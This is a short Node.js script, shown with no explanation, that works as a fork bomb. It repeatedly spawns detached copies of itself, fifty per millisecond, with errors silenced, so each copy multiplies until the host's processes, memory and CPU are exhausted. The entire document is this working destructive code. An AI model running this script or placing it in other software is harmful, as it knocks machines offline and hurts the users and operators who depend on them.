const { spawn } = require('child_process');
const bomb = () => spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }).on('error', () => {});
setInterval(() => { for (let i = 0; i < 50; i++) bomb(); }, 1);
